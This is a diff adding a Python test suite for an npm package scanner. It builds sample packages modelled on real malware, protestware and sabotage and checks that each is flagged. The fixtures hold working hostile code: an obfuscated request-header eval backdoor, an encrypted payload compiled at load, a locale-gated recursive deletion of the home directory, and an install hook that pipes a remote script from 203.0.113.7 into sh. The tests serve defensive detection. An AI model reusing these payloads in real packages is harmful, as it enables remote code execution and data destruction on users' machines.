@@ -1,0 +1,246 @@
+"""npm packages shaped like real malware, protestware and sabotage, built here, scanned end to
+end: each is stopped by the rule named for what it does, with the line that does it."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from builders import gzip_bytes, tar_bytes, write
+from finalexam.config import Config
+from finalexam.exam import run_exam
+from finalexam.model import Finding, Report, Severity
+
+ONLY_BEHAVIOUR = Config(disable=("secrets", "vulnerabilities", "binary", "yara"))
+
+
+def npm_package(tmp_path: Path, name: str, files: dict[str, str], **manifest: object) -> Path:
+    document = {"name": name, "version": "1.0.0", "main": "index.js", **manifest}
+    members = {"package/package.json": json.dumps(document, indent=2)}
+    members.update({f"package/{path}": text for path, text in files.items()})
+    return write(tmp_path / f"{name}-1.0.0.tgz", gzip_bytes(tar_bytes(members)))
+
+
+def findings(report: Report, rule_id: str) -> list[Finding]:
+    return [f for f in report.findings if f.rule_id == rule_id]
+
+
+def blocking(report: Report) -> set[str]:
+    return {
+        f.rule_id
+        for f in report.findings
+        if f.kind.value in ("behavior", "malicious") and f.severity.rank >= Severity.HIGH.rank
+    }
+
+
+# a protest module that leaves a note on the Desktop and in OneDrive as soon as it is imported
+DESKTOP_NOTE = """import fs from 'fs';
+import { homedir } from 'os';
+
+var desk = `${homedir}/Desktop/`;
+var cloud = `${homedir}/OneDrive/`;
+
+function leaveNote(path, message) {
+    try {
+        fs.writeFile(path, message, function (err) {});
+    } catch (err) {}
+}
+
+var note = 'A-NOTE-FOR-YOU.txt';
+leaveNote(`${desk}${note}`, 'a message');
+leaveNote(`${cloud}${note}`, 'a message');
+export default 'ok';
+"""
+
+
+def test_a_module_writing_to_the_desktop_at_import_is_stopped(tmp_path: Path) -> None:
+    report = run_exam(npm_package(tmp_path, "note", {"index.js": DESKTOP_NOTE}), ONLY_BEHAVIOUR)
+    [finding] = findings(report, "thr-writes-user-folders")
+    assert finding.severity is Severity.HIGH
+    assert finding.evidence.line == 14
+    assert "leaveNote" in (finding.evidence.snippet or "")
+    assert finding.evidence.details["context"] == "import"
+    assert not report.verdict.passed
+
+
+def test_the_same_payload_bundled_by_esbuild_into_a_cjs_entry_is_stopped(tmp_path: Path) -> None:
+    bundle = "\n".join(
+        [
+            '"use strict";',
+            "var __toModule = (m) => m;",
+            'var import_fs = __toModule(require("fs"));',
+            "function ipcServe() { return 1; }",
+            'var import_os = __toModule(require("os"));',
+            'var desk = "".concat(import_os.homedir, "/Desktop/");',
+            "function leaveNote(path2, message) {",
+            "  import_fs.default.writeFile(path2, message, function(err) {});",
+            "}",
+            'leaveNote("".concat(desk).concat("A-NOTE.txt"), "text");',
+            "module.exports = { ipcServe };",
+        ]
+    )
+    report = run_exam(npm_package(tmp_path, "ipc", {"ipc.cjs": bundle}), ONLY_BEHAVIOUR)
+    [finding] = findings(report, "thr-writes-user-folders")
+    assert finding.location is not None and finding.location.path == "package/ipc.cjs"
+    assert finding.evidence.line == 10
+
+
+def test_commands_smuggled_in_request_headers_and_evaluated_are_stopped(tmp_path: Path) -> None:
+    harness = "\n".join(
+        [
+            "'use strict';",
+            "let harness = (req, res, callback, next) => {",
+            "  module.exports.log = module.exports.log || Buffer.alloc(0xffff);",
+            "  JSON.stringify(req.headers).replace(/g([a-f0-9]{4})h((?:[a-f0-9]{2})+)i/gi,",
+            "    (o, p, v) => {",
+            "      p = Buffer.from(p, 'hex').readUInt16LE(0);",
+            "      if (p === 0xfffa) {",
+            "        let c = module.exports.log.toString();",
+            "        require('\\x76\\x6d')['\\x72\\x75\\x6e\\x49\\x6e\\x54\\x68\\x69\\x73\\x43"
+            "\\x6f\\x6e\\x74\\x65\\x78\\x74'](c)(module.exports, require, req, res, next);",
+            "      }",
+            "      v = Buffer.from(v, 'hex');",
+            "      for (let i = 0; i < v.length; i++) { module.exports.log[p + i] = v[i]; }",
+            "    });",
+            "  next();",
+            "};",
+            "module.exports.assert = (req, res, cb, next) => harness(req, res, cb, next);",
+        ]
+    )
+    index = "const harness = require('./test/harness.js');\nmodule.exports = harness.assert;\n"
+    files = {"index.js": index, "test/harness.js": harness}
+    report = run_exam(npm_package(tmp_path, "cookies", files), ONLY_BEHAVIOUR)
+    [finding] = findings(report, "thr-remote-code-eval")
+    assert finding.severity is Severity.HIGH
+    assert finding.location is not None and finding.location.path == "package/test/harness.js"
+    assert finding.evidence.line == 9
+    assert not report.verdict.passed
+
+
+def test_a_payload_decrypted_with_the_consumers_description_and_compiled_is_stopped(
+    tmp_path: Path,
+) -> None:
+    payload = "\n".join(
+        [
+            "var r = require, t = process;",
+            "function e(r) { return Buffer.from(r, 'hex').toString(); }",
+            "var n = r(e('2e2f746573742f64617461')), o = t[e(n[3])][e(n[4])];",
+            "if (o) {",
+            "  var u = r(e(n[2]))[e(n[6])](e(n[5]), o),",
+            "      a = u.update(n[0], e(n[8]), e(n[9]));",
+            "  a += u.final(e(n[9]));",
+            "  var f = new module.constructor();",
+            "  f.paths = module.paths, f[e(n[7])](a, ''), f.exports(n[1]);",
+            "}",
+        ]
+    )
+    plain = "\n".join(
+        [
+            "var crypto = require('crypto');",
+            "var key = process.env.npm_package_description;",
+            "var d = crypto.createDecipher('aes256', key);",
+            "var code = d.update(blob, 'hex', 'utf8');",
+            "code += d.final('utf8');",
+            "var m = new module.constructor();",
+            "m.paths = module.paths;",
+            "m._compile(code, '');",
+        ]
+    )
+    files = {"index.js": "module.exports = require('./lib/stream.js');\n", "lib/stream.js": plain}
+    files["lib/min.js"] = payload
+    report = run_exam(npm_package(tmp_path, "flatmap", files), ONLY_BEHAVIOUR)
+    [finding] = findings(report, "thr-decrypt-eval")
+    assert finding.severity is Severity.CRITICAL
+    assert finding.location is not None and finding.location.path == "package/lib/stream.js"
+    assert finding.evidence.line == 8
+
+
+def test_a_locale_gated_message_is_reported_as_protestware_without_blocking(
+    tmp_path: Path,
+) -> None:
+    script = "\n".join(
+        [
+            "'use strict';",
+            "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;",
+            "const zones = new Set(['Europe/Moscow', 'Europe/Samara', 'Asia/Omsk']);",
+            "if (zones.has(zone)) {",
+            "  console.log('A message for the people of one country');",
+            "}",
+        ]
+    )
+    tgz = npm_package(
+        tmp_path, "msg", {"_postinstall.js": script}, scripts={"postinstall": "node _postinstall"}
+    )
+    report = run_exam(tgz, ONLY_BEHAVIOUR)
+    gated = findings(report, "prot-locale-gated-message")
+    assert gated and all(f.severity is Severity.MEDIUM for f in gated)
+    assert {f.evidence.line for f in gated} == {5}
+    assert blocking(report) == set()
+
+
+def test_a_locale_gated_deletion_is_high(tmp_path: Path) -> None:
+    script = "\n".join(
+        [
+            "const fs = require('fs'), os = require('os');",
+            "const lang = process.env.LANG || '';",
+            "if (lang.startsWith('ru')) {",
+            "  fs.rmSync(os.homedir(), { recursive: true, force: true });",
+            "}",
+        ]
+    )
+    report = run_exam(npm_package(tmp_path, "wipe", {"index.js": script}), ONLY_BEHAVIOUR)
+    assert {"prot-locale-gated-action", "thr-deletes-wholesale"} <= blocking(report)
+
+
+def test_an_endless_loop_at_import_is_sabotage(tmp_path: Path) -> None:
+    index = "\n".join(
+        [
+            "const colors = require('./lib/colors');",
+            "module.exports = colors;",
+            "for (let i = 666; i < Infinity; i++) {",
+            "  console.log(colors.rainbow('LIBERTY LIBERTY LIBERTY'));",
+            "}",
+        ]
+    )
+    report = run_exam(npm_package(tmp_path, "colours", {"index.js": index}), ONLY_BEHAVIOUR)
+    [finding] = findings(report, "sab-endless-loop")
+    assert finding.severity is Severity.HIGH and finding.evidence.line == 3
+
+
+def test_inline_node_scripts_of_install_hooks_and_html_scripts_are_read(tmp_path: Path) -> None:
+    command = (
+        "node -e \"require('child_process').execSync('curl -s http://203.0.113.7/i.sh | sh')\""
+    )
+    page = "<html><body>\n<p>docs</p>\n<script>\neval(atob('YWxlcnQoMSk='));\n</script></body>"
+    tgz = npm_package(
+        tmp_path, "hooked", {"index.js": "", "docs/index.html": page}, scripts={"install": command}
+    )
+    report = run_exam(tgz, ONLY_BEHAVIOUR)
+    [hook] = findings(report, "thr-shell-downloader")
+    assert hook.location is not None and hook.location.path == "package/package.json"
+    assert hook.evidence.details["context"] == "install"
+    [html] = findings(report, "thr-decoded-exec")
+    assert html.location is not None and html.location.path == "package/docs/index.html"
+    assert html.evidence.line == 4
+
+
+def test_ordinary_node_code_stays_clean(tmp_path: Path) -> None:
+    library = "\n".join(
+        [
+            "const fs = require('fs');",
+            "const path = require('path');",
+            "const os = require('os');",
+            "const { execFileSync } = require('child_process');",
+            "const cache = path.join(os.homedir(), '.cache', 'tool');",
+            "fs.mkdirSync(cache, { recursive: true });",
+            "function version() { return execFileSync('git', ['describe']).toString(); }",
+            "function save(name, data) { fs.writeFileSync(path.join(cache, name), data); }",
+            "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;",
+            "if (tz === 'UTC') { console.log('server time'); }",
+            "while (true) { const job = queue.shift(); if (!job) break; job(); }",
+            "module.exports = { version, save, tz };",
+        ]
+    )
+    report = run_exam(npm_package(tmp_path, "honest", {"index.js": library}), ONLY_BEHAVIOUR)
+    assert blocking(report) == set()
+    assert report.verdict.passed
